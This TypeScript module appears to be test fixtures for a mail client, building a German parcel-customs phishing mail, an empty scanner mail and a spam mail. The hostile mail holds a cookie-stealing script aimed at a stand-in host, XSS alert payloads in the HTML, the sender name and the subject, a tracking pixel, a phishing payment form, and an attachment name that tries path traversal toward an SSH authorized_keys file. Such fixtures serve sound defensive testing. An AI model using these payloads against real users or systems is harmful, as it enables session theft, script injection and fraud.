/**
 * What would trip a careless reader?
 *
 * A hostile mail with scripts, trackers and a file name that climbs out of its folder, an empty mail, and plain spam.
 */
import { Buffer } from 'node:buffer';
import { filePart, htmlPart, multipart, textPart } from './compose.ts';
import { png } from './files.ts';
import type { Letter } from './letter.ts';
import { ada } from './people.ts';

export const HOSTILE_NAME = '../../..\\home/ada/.ssh/"authorized"_keys;.html';

const hostileHtml = `<!DOCTYPE html>
<html><head><script>document.location='https://paketdienst-zoll.example/?c='+document.cookie</script>
<style>@import url("https://paketdienst-zoll.example/track.css");</style>
<meta http-equiv="refresh" content="5;url=https://paketdienst-zoll.example/pay"></head>
<body onload="fetch('https://paketdienst-zoll.example/open')">
<p>Ihr Paket liegt beim Zoll. Es fehlen <b>1,99 &euro;</b>.</p>
<p><a href="javascript:pay()" onclick="pay()">Jetzt bezahlen</a></p>
<img src="https://paketdienst-zoll.example/pixel.gif?m=ada@postern.example" width="1" height="1" onerror="alert(1)">
<svg><script>alert(2)</script></svg><iframe srcdoc="&lt;script&gt;alert(3)&lt;/script&gt;"></iframe>
<form action="https://paketdienst-zoll.example/pay"><input name="iban"><button>OK</button></form>
</body></html>
`;

export function strangeLetters(): Letter[] {
  const page = Buffer.from('<html><script>alert(4)</script></html>');
  return [
    {
      id: 'zoll.5d0e',
      daysAgo: 4,
      time: '02:17',
      from: { name: '"Paketdienst" <img src=x onerror=alert(5)>', address: 'zoll@paketdienst-zoll.example' },
      to: [ada],
      subject: 'Ihr Paket <b onmouseover="alert(6)">wartet</b> beim Zoll',
      extra: [['Reply-To', '"ada@postern.example" <kasse@paketdienst-zoll.example>']],
      content: multipart('mixed', [
        multipart('alternative', [textPart('Ihr Paket liegt beim Zoll. Es fehlen 1,99 €.\n'), htmlPart(hostileHtml)]),
        filePart({ name: HOSTILE_NAME, type: 'text/html', bytes: page }),
      ]),
    },
    {
      // The scanner sends headers and nothing else when its paper tray is empty.
      id: 'scan.0007',
      daysAgo: 5,
      time: '15:03',
      flags: ['\\Seen'],
      from: { name: 'Scanner 2. Stock', address: 'scanner@nordlicht.example' },
      to: [ada],
      subject: 'Scan 0007',
    },
    {
      id: 'gewinn.1',
      daysAgo: 8,
      time: '03:33',
      mailbox: 'Junk',
      from: { name: 'Glücksbüro', address: 'gewinn@gluecksbuero.example' },
      to: [{ address: 'undisclosed@gluecksbuero.example' }],
      subject: 'Sie haben gewonnen!!! Antworten Sie noch heute',
      content: multipart('related', [
        htmlPart('<html><body><img src="cid:los@gluecksbuero.example"></body></html>\n'),
        filePart({
          name: 'los.png',
          type: 'image/png',
          bytes: png(24, 24, (x, y) => (((x >> 2) + (y >> 2)) % 2 === 0 ? [230, 180, 30] : [160, 20, 40])),
          disposition: 'inline',
          cid: 'los@gluecksbuero.example',
        }),
      ]),
    },
  ];
}
